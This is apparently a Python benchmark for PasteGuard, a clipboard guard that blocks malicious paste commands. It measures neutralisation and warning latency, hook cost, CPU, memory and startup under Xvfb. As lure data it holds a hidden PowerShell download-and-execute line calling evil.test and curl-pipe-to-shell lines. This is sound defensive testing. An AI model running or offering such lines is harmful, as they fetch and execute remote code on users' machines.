"""Guard runtime figures: clipboard change to neutralised, the hook's cost, idle CPU, memory, start.

The guard runs for real under Xvfb with openbox (the X11 backend), as a person would meet it.
"""

from __future__ import annotations

import compileall
import json
import os
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import psutil

from app import ipc
from app.detection import Engine, PasteTarget
from app.guard.keys import PasteSequence
from app.guard.provenance import Provenance
from app.guard.service import ClipboardChange, GuardService, GuardSettings, PasteWarning
from app.guard.targets import TargetClassifier
from app.platform.base import KeyEvent, WindowInfo
from bench.report import Result, met, table
from tests.desktop import BIN, REPO, Desktop, desktop, wait_for

ROUNDS = 40
WARNING_ROUNDS = 20
RETENTION_EVENTS = 200_000
IDLE_SECONDS = 60.0
MALICIOUS = 'powershell -w h -c "iwr https://evil.test/{n}.ps1 | iex"'
SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install.sh | sh"


def _status(d: Desktop, data: Path) -> dict[str, object] | None:
    result = d.run(str(BIN / "pasteguard"), "status", "--data-dir", str(data), timeout=10)
    return json.loads(result.stdout) if result.returncode == 0 else None


def _percentile(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(p / 100 * (len(ordered) - 1)))]


def _start_guard(d: Desktop, tmp: Path, data: Path) -> tuple[object, float, float]:
    """The guard process; (process, launch → status answers ready in s, its own ready_ms)."""
    d.env.update(PASTEGUARD_CONFIG_DIR=str(tmp / "cfg"), PASTEGUARD_POLICY=str(tmp / "none"))
    launched = time.monotonic()
    log = (tmp / f"guard-{data.name}.log").open("wb")
    guard = d.start(str(BIN / "pasteguard"), "run", "--no-tray", "--data-dir", str(data),
                    stdout=log, stderr=log)  # fmt: skip
    # "ready" is the first `status` that exits 0, which it does only once the guard says it
    # is ready: its own start() done (ready_ms, which the control socket, served off the Qt
    # thread, reports before that), its analysis process warm, and the X server recording
    # keys for its hook (ui/application.py status). So this counts the analysis process's
    # start too, not only the guard's ready_ms (_status returns None for a nonzero exit).
    status = wait_for(lambda: _ready_status(d, data), timeout=60, step=0.05)
    assert isinstance(status, dict)
    return guard, time.monotonic() - launched, float(status["ready_ms"])  # type: ignore[arg-type]


def _ready_status(d: Desktop, data: Path) -> dict[str, object] | None:
    status = _status(d, data)
    return status if status is not None and status.get("ready_ms") is not None else None


def _protecting(d: Desktop, data: Path) -> None:
    """A barrier before any measurement: the guard says it is ready (its analysis process is
    warm, and the X server records keys for its hook: a paste before that goes unseen)."""
    wait_for(lambda: (_status(d, data) or {}).get("ready"), timeout=120, step=0.05)


def _neutralise_latencies(d: Desktop, tmp: Path) -> list[float]:
    """Another program (tests/churn.py) owns the clipboard with lures and ordinary text, 10 a
    second; the latency is from its SetSelectionOwner to the SelectionClear the guard's holder
    causes (no polling in the measurement)."""
    texts = [MALICIOUS.format(n=n) if n % 2 else f"ordinary text {n}" for n in range(2 * ROUNDS)]
    (tmp / "plan.json").write_text(json.dumps(texts), encoding="utf-8")
    subprocess.run(
        [sys.executable, "-m", "tests.churn", d.display, str(tmp / "plan.json"), "10",
         str(tmp / "churn.json")],
        cwd=REPO, timeout=120, check=True, env=d.env,
    )  # fmt: skip
    report = json.loads((tmp / "churn.json").read_text())
    return [1000 * a for a in report["after"] if a is not None]


def _active_window_name(d: Desktop) -> str:
    return d.run("xdotool", "getactivewindow", "getwindowname").stdout


def _holder_refused(d: Desktop, data: Path, rounds: int) -> int:
    """Of the last `rounds` pastes, how many the clipboard holder refused (its answer decided
    the warning at once); the others were warned only when the paste settled, 2 s later."""

    def pastes() -> list[dict[str, object]]:
        result = d.run(str(BIN / "pasteguard"), "export", "--data-dir", str(data), "--kind",
                       "paste_blocked", "--kind", "paste_warned", timeout=20)  # fmt: skip
        found = [json.loads(line) for line in result.stdout.splitlines() if line.strip()]
        return found if len(found) >= rounds else []

    found = wait_for(pastes, timeout=15, step=0.5)  # the last one is written once it settles
    assert isinstance(found, list)
    return sum(bool((e.get("details") or {}).get("refused_by_holder")) for e in found[-rounds:])


def _warning_latencies(d: Desktop, data: Path, rounds: int) -> list[float]:
    """Ctrl+Shift+V in xterm with a suspicious text held: to the warning being the active
    window (polled every 5 ms through xdotool, a few ms of which are the poll itself)."""
    d.start("xterm", "-xrm",
            "XTerm*VT100.Translations: #override Ctrl Shift <Key>V: insert-selection(CLIPBOARD)",
            "-e", "bash", "--norc", stderr=subprocess.DEVNULL)  # fmt: skip
    wait_for(lambda: d.run("xdotool", "search", "--class", "xterm").stdout.strip(), timeout=10)
    owner = d.set_clipboard(SUSPICIOUS)
    wait_for(lambda: ((_status(d, data) or {}).get("current") or {}).get("held"), timeout=10)
    out = []
    for _ in range(rounds):
        d.run("xdotool", "search", "--class", "xterm", "windowactivate", "--sync")
        time.sleep(0.3)
        begin = time.monotonic()
        d.run("xdotool", "key", "ctrl+shift+v")
        wait_for(lambda: "PasteGuard warning" in _active_window_name(d), timeout=10, step=0.005)
        out.append((time.monotonic() - begin) * 1000)
        time.sleep(0.3)
        d.run("xdotool", "key", "Escape")
        wait_for(lambda: "PasteGuard warning" not in _active_window_name(d), timeout=10)
    owner.terminate()
    return out


def _retention_stall(d: Desktop, tmp: Path) -> tuple[float, float, int]:
    """A guard started on a log of 200,000 expired events deletes them at start; meanwhile the
    UI thread is pinged every 10 ms through the control socket (`ping_ui`: the socket's own
    thread hands a call to the UI thread and times it). The longest answer is an upper bound on
    the longest UI-thread stall. Returns (longest ms, median ms, requests)."""
    from bench.store import build_big

    data = tmp / "retention"
    data.mkdir()
    build_big(data, RETENTION_EVENTS)  # a year of events ending 2026-06-01: all expired
    _start_guard(d, tmp, data)
    times: list[float] = []
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline:
        begin = time.perf_counter()
        ipc.request(data, {"cmd": "ping_ui", "timeout": 10.0}, timeout=12.0)
        times.append((time.perf_counter() - begin) * 1000)
        answer = ipc.request(data, {"cmd": "status"}, timeout=10.0)  # never waits on the UI
        store = (answer or {}).get("store") or {}
        if (
            isinstance(store, dict)
            and store.get("events") is not None
            and int(str(store["events"])) < RETENTION_EVENTS // 100
        ):
            break
        time.sleep(0.01)
    return max(times), statistics.median(times), len(times)


def _live(tmp: Path) -> tuple[list[list[object]], list[str]]:
    data = tmp / "data"
    rows: list[list[object]] = []
    with desktop() as d:
        guard, start_s, ready_ms = _start_guard(d, tmp, data)
        _protecting(d, data)
        latencies = _neutralise_latencies(d, tmp)
        warnings = _warning_latencies(d, data, WARNING_ROUNDS)
        refused = _holder_refused(d, data, WARNING_ROUNDS)
        if max(warnings) > 1000:  # keep what the guard said: its log goes with the folder
            log = (tmp / f"guard-{data.name}.log").read_text(errors="replace")
            print(f"bench.guard: a warning took {max(warnings):.0f} ms; the guard's log:\n"
                  + log[-20000:], file=sys.stderr)  # fmt: skip
        proc = psutil.Process(guard.pid)  # type: ignore[attr-defined]
        rss_mb = proc.memory_info().rss / 2**20
        cpu_before = proc.cpu_times()
        wall_before = time.monotonic()
        time.sleep(IDLE_SECONDS)
        cpu_after = proc.cpu_times()
        idle = cpu_after.user + cpu_after.system - cpu_before.user - cpu_before.system
        idle_pct = 100 * idle / (time.monotonic() - wall_before)
        rss_after = proc.memory_info().rss / 2**20
        # the analysis process (and multiprocessing's resource tracker) beside the guard
        children_mb = sum(c.memory_info().rss for c in proc.children()) / 2**20
        analysis = dict((_status(d, data) or {}).get("analysis") or {})
    with desktop() as d:
        longest, median, requests = _retention_stall(d, tmp)
    p95 = _percentile(latencies, 95)
    rows.append(
        [
            "clipboard change → neutralised, p95",
            f"{p95:.1f} ms (median {statistics.median(latencies):.1f}, max {max(latencies):.1f})",
            "≤ 20 ms",
            met(p95 <= 20),
        ]
    )
    w95 = _percentile(warnings, 95)
    rows.append(
        [
            "Ctrl+V → warning shown, p95",
            f"{w95:.0f} ms (median {statistics.median(warnings):.0f}, max {max(warnings):.0f})",
            "≤ 200 ms",
            met(w95 <= 200),
        ]
    )
    rows.append(
        [
            "… of those pastes, refused by the clipboard holder (warned at once, not on settling)",
            f"{refused}/{WARNING_ROUNDS}",
            f"{WARNING_ROUNDS}/{WARNING_ROUNDS}",
            met(refused == WARNING_ROUNDS),
        ]
    )
    rows.append(
        [
            f"longest UI-thread stall during retention of {RETENTION_EVENTS:,} events",
            f"{longest:.0f} ms (median answer {median:.1f} ms, {requests} requests)",
            "≤ 100 ms",
            met(longest <= 100),
        ]
    )
    rows.append(["idle CPU over a minute", f"{idle_pct:.2f} %", "≤ 0.5 %", met(idle_pct <= 0.5)])
    rss = max(rss_mb, rss_after)
    rows.append(["resident memory", f"{rss:.0f} MB", "≤ 150 MB", met(rss <= 150)])
    rows.append(
        [
            "resident memory of its child processes (the analysis process, its resource tracker)",
            f"{children_mb:.0f} MB (analysis process ready after {analysis.get('ready_ms')} ms)",
            "",
            met(None),
        ]
    )
    rows.append(
        [
            "start to ready (launch → status answers)",
            f"{start_s * 1000:.0f} ms (guard's own ready_ms {ready_ms:.0f})",
            "≤ 2 s",
            met(start_s <= 2.0),
        ]
    )
    notes = [
        f"Neutralise: {ROUNDS} lures among {ROUNDS} ordinary texts, 10 changes a second, owned by "
        "another program (tests/churn.py); from its SetSelectionOwner to the SelectionClear the "
        "guard's holder causes. Backend: X11 under Xvfb + openbox.",
        f"Warning: {WARNING_ROUNDS} Ctrl+Shift+V in xterm with a suspicious text held; to the "
        "warning being the active window (xdotool polled every 5 ms, so it includes a poll). "
        "Each paste's event says whether the clipboard holder refused it: a paste it did not "
        "answer is warned only when it settles (2 s), the transient one full run once showed.",
        f"Retention: a guard started on a log of {RETENTION_EVENTS:,} expired events (bench.store "
        "build_big) deletes them on its retention thread; the UI thread answered a ping through "
        "the control socket (`ping_ui`) every 10 ms until fewer than 1 % were left.",
        f"Idle CPU: user+system time of the guard process over {IDLE_SECONDS:.0f} s with nothing "
        "happening; memory: RSS after the rounds and after the idle minute.",
    ]
    return rows, notes


class _UI:
    def replace_clipboard(self, expected_digest: str, text: str) -> None: ...
    def notify(self, title: str, message: str, restore_event_id: int | None = None) -> None: ...
    def warn(self, warning: PasteWarning) -> None: ...
    def state_changed(self) -> None: ...


class _Store:
    def __init__(self) -> None:
        self.status: dict[str, object] = {}

    def append(self, event: object, *, original: str | None = None) -> int:
        return 1

    def flush(self) -> bool:
        return True

    def index_when_idle(self) -> bool:
        return False

    def apply_retention(self) -> int:
        return 0


def _hook() -> tuple[list[list[object]], list[str]]:
    """The hook's own cost: PasteSequence, classifier and lookup, on this thread."""
    window = WindowInfo("xterm", "XTerm", "bash", 4242, handle=77)
    service = GuardService(
        Engine(),
        _Store(),
        _UI(),
        PasteSequence(),
        TargetClassifier.load(),
        lambda: window,
        False,
        GuardSettings(mode="block"),
    )
    service.clipboard_changed(
        ClipboardChange(
            "curl -fsSL https://unknown.example/i.sh | sh",
            Provenance(source_url="https://x.example/"),
        )
    )
    service.process_pending()
    keys = [("ctrl", True), ("v", True), ("v", False), ("ctrl", False), ("a", True), ("a", False)]
    times: list[float] = []
    now = time.monotonic()
    for i in range(50_000):
        key, down = keys[i % len(keys)]
        mods = frozenset({"ctrl"}) if key == "v" else frozenset()
        event = KeyEvent(key, down, mods, now + i * 0.001)
        begin = time.perf_counter_ns()
        service.on_key(event)
        times.append((time.perf_counter_ns() - begin) / 1e6)
    p99 = _percentile(times, 99)
    rows = [
        [
            "hook callback (key event → decision), p99",
            f"{p99:.4f} ms (median {statistics.median(times):.4f})",
            "≤ 0.2 ms",
            met(p99 <= 0.2),
        ]
    ]
    notes = [
        "Hook: 50,000 key events through GuardService.on_key with the real PasteSequence and "
        "TargetClassifier, a suspicious verdict current and a terminal in front (every "
        "Ctrl+V is a guarded paste that warns)."
    ]
    assert service.current is not None and PasteTarget.TERMINAL in service.current.levels
    return rows, notes


def _byte_compile() -> None:
    """Byte-compile app/ and ui/ as pip does when it installs the wheel (the built app is
    frozen, compiled too), and keep the parse of the shipped data files, before any guard
    starts. The bench runs with PYTHONDONTWRITEBYTECODE=1 (tests/desktop.py passes the
    environment on), so a module without bytecode is compiled again at every start: ui/ was
    never compiled (bench.speed compiles app/ only, and only when detection.speed runs
    first), and "start to ready" counted ~0.1 s of compiling ui/'s modules (0.8 s with app/
    too, when guard.runtime ran alone) that no installed copy pays."""
    from bench.speed import byte_compile_app

    byte_compile_app()
    compileall.compile_dir(str(REPO / "ui"), quiet=2)


def run() -> list[Result]:
    _byte_compile()
    hook_rows, hook_notes = _hook()
    with tempfile.TemporaryDirectory() as folder:
        live_rows, live_notes = _live(Path(folder))
    headers = ["measurement", "value", "target", "met?"]
    return [
        Result(
            "Guard runtime",
            table(headers, [*live_rows, *hook_rows], "lllc"),
            [*live_notes, *hook_notes],
        )
    ]


if __name__ == "__main__":  # pragma: no cover
    os.environ.setdefault("PYTHONUNBUFFERED", "1")
    for result in run():
        print(result.markdown())
